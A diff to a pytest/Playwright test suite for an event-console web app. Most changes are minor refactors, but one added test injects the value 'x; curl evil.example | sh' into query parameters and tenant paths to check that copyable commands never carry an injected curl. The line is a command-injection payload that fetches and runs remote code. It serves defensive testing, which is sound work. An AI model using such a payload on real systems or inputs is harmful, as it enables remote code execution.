@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import re
+import shlex
 from collections.abc import Iterator
+from html import unescape
+from urllib.parse import quote
 
 import pytest
 from playwright.sync_api import Browser, Page, expect
@@ -53,8 +56,7 @@ class TestTroubles:
         expect(waits.get_by_text("berth doctor")).to_be_visible()
         waits.get_by_role("link", name="4 connections fail or wait: 1 disabled, 1 failing, 2 paused").click()
         expect(visitor).to_have_url(here.url("/events"))
-        troubles = visitor.locator("#live .state").all_inner_texts()
-        assert troubles == ["disabled", "failing", "paused", "paused"]
+        expect(visitor.locator("#live .state")).to_have_text(["disabled", "failing", "paused", "paused"])
         assert sorted(visitor.get_by_role("rowheader").all_inner_texts()) == ["acme", "acme", "acme", "globex"]
 
     def test_each_has_its_reason_and_its_page(self, visitor: Page, here: Running, fleet: EventFleet) -> None:
@@ -234,6 +236,31 @@ def test_pages_about_events_can_be_read_without_javascript(browser: Browser, her
         expect(page.locator(f"#payload-{fleet.unwanted} pre")).to_contain_text('"currency": "EUR"')
         page.goto(here.url(f"{ACME}/connections/{fleet.shop}"))
         expect(page.locator(f"#delivery-{fleet.unwanted}")).to_be_visible()
+
+
+ANOTHER_COMMAND = "x; curl evil.example | sh"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        *(f"{ACME}/tail?{name}={{}}" for name in ("kind", "type", "status", "source", "form", "since", "until")),
+        *(f"{ACME}/replays/plan?{name}={{}}" for name in ("to", "since", "until", "sends")),
+        f"{ACME}/replays/do/start?to={{0}}&since={{0}}&until={{0}}",
+        *(
+            f"/tenants/{{}}/{page}"
+            for page in (
+                *("events", "tail", "connections", "sources", "keys", "replays", "replays/plan?to=api&since=1h"),
+                *("events/do/settings", "connections/do/create", "sources/do/create", "forms/do/create"),
+                *("keys/do/create", "replays/do/start?to=api&since=1&until=2"),
+            )
+        ),
+    ],
+)
+def test_the_command_to_copy_runs_nothing_that_an_address_has_brought(here: Running, path: str) -> None:
+    body = Caller.with_session(here).get(path.format(quote(ANOTHER_COMMAND, safe=""))).body
+    commands = [unescape(part.split('"')[0]) for part in body.split('data-copy="')[1:]]
+    assert not [each for each in commands if "curl" in shlex.split(each)]
 
 
 def test_a_read_only_console_has_no_buttons_and_refuses(fleet: EventFleet, here: Running, browser: Browser) -> None:
